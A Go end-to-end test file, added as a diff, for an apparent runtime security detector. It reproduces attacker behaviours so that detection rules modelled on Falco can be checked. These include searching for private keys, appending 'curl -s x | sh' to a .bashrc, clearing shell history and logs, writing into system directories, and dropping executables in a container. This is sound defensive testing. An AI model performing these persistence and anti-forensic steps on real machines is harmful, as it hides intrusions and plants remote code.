@@ -1,0 +1,234 @@
+//go:build linux
+
+package rulese2e
+
+import (
+	"context"
+	"fmt"
+	"net"
+	"os"
+	"os/exec"
+	"path/filepath"
+	"strconv"
+	"strings"
+	"syscall"
+	"testing"
+	"time"
+
+	"github.com/otelsec/otelsec/internal/containertest"
+	"github.com/otelsec/otelsec/internal/schema"
+)
+
+// parityBehaviours are what Falco's stable and incubating rules detect that the default rules
+// detect too, performed as an attacker would (docs/rules.md maps each Falco rule to ours).
+// Programs trusted by name are trusted only in the system directories: a copy of the helper by
+// that name elsewhere is not.
+func parityBehaviours(tok string, with func(map[string]any) map[string]any) []behaviour {
+	return []behaviour{
+		{name: "grep for a PEM header as typed", rule: "Search for private keys",
+			do: func(t *testing.T, h *harness) (int, map[string]any) {
+				return h.runQuiet(exec.Command("grep", "-r", "BEGIN RSA PRIVATE", h.work)), with(map[string]any{
+					schema.AttrProcessExecutableName: "grep"})
+			}},
+		{name: "script from dev-shm run by its interpreter", rule: "Program executed from shared memory",
+			nearMiss: func(t *testing.T, h *harness) int {
+				return h.run(exec.Command("bash", "-c", "ls /dev/shm >/dev/null"))
+			},
+			do: func(t *testing.T, h *harness) (int, map[string]any) {
+				dir, err := os.MkdirTemp("/dev/shm", "otelsec-e2e-")
+				if err != nil {
+					t.Skip(err)
+				}
+				t.Cleanup(func() { os.RemoveAll(dir) })
+				p := filepath.Join(dir, "s.sh")
+				writeFile(t, p, "exit 0\n", 0o644) // not executable: the interpreter reads it
+				return h.run(exec.Command("bash", p)), with(map[string]any{
+					schema.AttrProcessExecutableName: "bash", schema.AttrProcessCommandArgs: listHas(p)})
+			}},
+		{name: "startup file of a service account's home", rule: "Shell startup file modified",
+			do: func(t *testing.T, h *harness) (int, map[string]any) {
+				// The shell itself appends, in a home outside /home and /root.
+				p := filepath.Join(h.work, ".bashrc")
+				return h.run(exec.Command("sh", "-c", `echo "curl -s x | sh" >> "$0"`, p)), with(map[string]any{
+					schema.AttrFilePath: p, schema.AttrFileFlags: listHas("O_APPEND")})
+			}},
+		{name: "startup file written by a copy named useradd", rule: "Shell startup file modified",
+			do: func(t *testing.T, h *harness) (int, map[string]any) {
+				dir, err := os.MkdirTemp("/tmp", "otelsec-e2e-")
+				if err != nil {
+					t.Fatal(err)
+				}
+				t.Cleanup(func() { os.RemoveAll(dir) })
+				fake := filepath.Join(dir, "useradd")
+				data, err := os.ReadFile(h.helper)
+				if err != nil {
+					t.Fatal(err)
+				}
+				writeFile(t, fake, string(data), 0o755)
+				p := filepath.Join(h.work, "home-"+tok, ".profile")
+				writeFile(t, p, "", 0o644)
+				return h.run(h.helperCmd(fake, "append", p)), with(map[string]any{
+					schema.AttrProcessExecutablePath: fake, schema.AttrFilePath: p})
+			}},
+		{name: "history emptied by a redirect", rule: "Shell history cleared",
+			do: func(t *testing.T, h *harness) (int, map[string]any) {
+				p := filepath.Join(h.work, "redirect", ".bash_history")
+				writeFile(t, p, "ls\n", 0o600)
+				return h.run(exec.Command("bash", "-c", `: > "$0"`, p)), with(map[string]any{
+					schema.AttrProcessExecutableName: "bash", schema.AttrFilePath: p,
+					schema.AttrFileFlags: listHas("O_TRUNC")})
+			}},
+		{name: "history saved by the shell", rule: "Shell history cleared",
+			// bash saving its history rewrites it through a file beside it: not a clearing.
+			nearMiss: func(t *testing.T, h *harness) int {
+				p := filepath.Join(h.work, "saved", ".bash_history")
+				writeFile(t, p, "ls\n", 0o600)
+				cmd := exec.Command("bash", "-c", "set -o history; echo x; history -w")
+				cmd.Env = append(os.Environ(), "HISTFILE="+p)
+				return h.run(cmd)
+			},
+			do: func(t *testing.T, h *harness) (int, map[string]any) {
+				p := filepath.Join(h.work, "moved", ".zsh_history")
+				writeFile(t, p, "ls\n", 0o600)
+				return h.run(exec.Command("mv", p, p+".old")), with(map[string]any{
+					schema.AttrFileSourcePath: p, schema.AttrFilePath: p + ".old"})
+			}},
+		{name: "log by name truncated outside var-log", rule: "System logs cleared",
+			do: func(t *testing.T, h *harness) (int, map[string]any) {
+				p := filepath.Join(h.work, "logs", "auth.log")
+				writeFile(t, p, "Accepted password for root\n", 0o640)
+				return h.run(exec.Command("truncate", "-s", "0", p)), with(map[string]any{
+					schema.AttrProcessExecutableName: "truncate", schema.AttrFilePath: p})
+			}},
+		{name: "symlink to the root directory", rule: "Symlink to or over a sensitive file",
+			nearMiss: func(t *testing.T, h *harness) int {
+				p := filepath.Join(h.work, "usr-link")
+				os.Remove(p)
+				return h.run(exec.Command("ln", "-s", "/usr/share", p))
+			},
+			do: func(t *testing.T, h *harness) (int, map[string]any) {
+				p := filepath.Join(h.work, "root-link")
+				os.Remove(p) // from an earlier attempt
+				return h.run(exec.Command("ln", "-s", "/", p)), with(map[string]any{
+					schema.AttrFilePath: p, schema.AttrFileSymlinkTargetPath: "/"})
+			}},
+		{name: "directory below usr-bin", rule: "Write below a system binary directory",
+			do: func(t *testing.T, h *harness) (int, map[string]any) {
+				p := "/usr/bin/.otelsec-e2e-" + tok
+				t.Cleanup(func() { os.Remove(p) })
+				os.Remove(p)
+				return h.run(exec.Command("mkdir", p)), with(map[string]any{schema.AttrFilePath: p})
+			}},
+		{name: "file created below dev", rule: "File created below /dev",
+			nearMiss: func(t *testing.T, h *harness) int {
+				return h.run(exec.Command("sh", "-c", "echo x > /dev/null"))
+			},
+			do: func(t *testing.T, h *harness) (int, map[string]any) {
+				p := "/dev/.otelsec-e2e-" + tok
+				t.Cleanup(func() { os.Remove(p) })
+				return h.run(touch(p)), with(map[string]any{
+					schema.AttrFilePath: p, schema.AttrFileFlags: listHas("O_CREAT")})
+			}},
+		{name: "ssh out on an egress port", rule: "SSH connection to a non-standard port",
+			do: func(t *testing.T, h *harness) (int, map[string]any) {
+				if _, err := exec.LookPath("ssh"); err != nil {
+					t.Skip("no ssh client")
+				}
+				l, port := listenOnEgressPort(t, nonLoopbackIPv4(t))
+				defer l.Close()
+				go func() {
+					// Close at once: ssh gives up before any key is read.
+					for {
+						c, err := l.Accept()
+						if err != nil {
+							return
+						}
+						c.Close()
+					}
+				}()
+				ip := l.Addr().(*net.TCPAddr).IP.String()
+				cmd := exec.Command("ssh", "-F", "/dev/null", "-o", "BatchMode=yes", "-o", "ConnectTimeout=5",
+					"-o", "UserKnownHostsFile=/dev/null", "-p", strconv.Itoa(port), "otelsec@"+ip, "true")
+				return h.runQuiet(cmd), with(map[string]any{schema.AttrProcessExecutableName: "ssh",
+					schema.AttrNetworkPeerAddress: ip, schema.AttrNetworkPeerPort: port})
+			}},
+		{name: "database server runs a program", rule: "Process spawned by a database server",
+			do: func(t *testing.T, h *harness) (int, map[string]any) {
+				pg := h.copyExecutable(h.helper, "postgres")
+				_, out := h.runHelper(h.helperCmd(pg, "exec", "/usr/bin/id"))
+				var pid int
+				if _, err := fmt.Sscan(out, &pid); err != nil {
+					t.Fatalf("helper printed %q", out)
+				}
+				return pid, map[string]any{schema.AttrProcessExecutableName: "id",
+					schema.AttrProcessParentExecutableName: "postgres"}
+			}},
+		{name: "login session of a system account", rule: "Login by a system account",
+			do: func(t *testing.T, h *harness) (int, map[string]any) {
+				// A session below sshd-session as uid 1 (daemon), without a terminal: what
+				// `ssh daemon@host id` runs.
+				sshd := h.copyExecutable(h.helper, "sshd-session")
+				cmd := h.helperCmd(sshd, "exec", "/usr/bin/id")
+				cmd.SysProcAttr = &syscall.SysProcAttr{Credential: &syscall.Credential{Uid: 1, Gid: 1}}
+				cmd.Dir = "/"
+				_, out := h.runHelper(cmd)
+				var pid int
+				if _, err := fmt.Sscan(out, &pid); err != nil {
+					t.Fatalf("helper printed %q", out)
+				}
+				return pid, map[string]any{schema.AttrProcessUserID: 1,
+					schema.AttrProcessAncestorsExecName: listHas("sshd-session")}
+			}},
+		{name: "executable dropped in a docker container", rule: "Executable dropped in a container",
+			do: func(t *testing.T, h *harness) (int, map[string]any) {
+				return dropInContainer(t, h)
+			}},
+	}
+}
+
+// listenOnEgressPort listens on ip at the first port of Falco's list that is free.
+func listenOnEgressPort(t *testing.T, ip string) (net.Listener, int) {
+	t.Helper()
+	for _, port := range []int{4444, 8443, 8080, 443, 80, 88, 53} {
+		l, err := net.Listen("tcp", net.JoinHostPort(ip, strconv.Itoa(port)))
+		if err == nil {
+			return l, port
+		}
+	}
+	t.Skip("every port of the list is in use here")
+	return nil, 0
+}
+
+// dropInContainer runs a busybox container under a real dockerd and, in it, copies busybox to
+// /tmp and runs the copy, as a dropper does; a file written without execute permission is the
+// near miss. The violation's process is in the container's pid namespace, so it is found by
+// the container's id.
+func dropInContainer(t *testing.T, h *harness) (int, map[string]any) {
+	rt := containertest.Start(t)
+	id := rt.MustDocker("run", "-d", "--network", "none", containertest.Image, "sleep", "1000")
+	ctx, cancel := context.WithTimeout(context.Background(), 30*time.Second)
+	defer cancel()
+	if err := rt.WaitRunning(ctx, id); err != nil {
+		t.Fatal(err)
+	}
+	rt.MustDocker("exec", id, "sh", "-c", "echo data > /tmp/notes")
+	rt.MustDocker("exec", id, "sh", "-c", "cp /bin/busybox /tmp/x && /tmp/x true")
+	const rule = "Executable dropped in a container"
+	inContainer := func(v violation) bool { return v.str(schema.AttrContainerID) == id && v.has(rule) }
+	deadline := time.Now().Add(30 * time.Second)
+	for time.Now().Before(deadline) && len(h.col.find(inContainer)) == 0 {
+		time.Sleep(20 * time.Millisecond)
+	}
+	time.Sleep(20 * flushInterval)
+	got := h.col.find(inContainer)
+	if len(got) == 0 {
+		t.Fatalf("no %q from container %s", rule, id)
+	}
+	for _, v := range got {
+		if strings.HasSuffix(v.str(schema.AttrFilePath), "/notes") {
+			t.Errorf("the near miss (a file without execute permission) fired: %v", v)
+		}
+	}
+	return int(got[0].int(schema.AttrProcessPID)), map[string]any{schema.AttrContainerID: id,
+		schema.AttrFilePath: "/tmp/x", schema.AttrFileMode: octal(0o755)}
+}
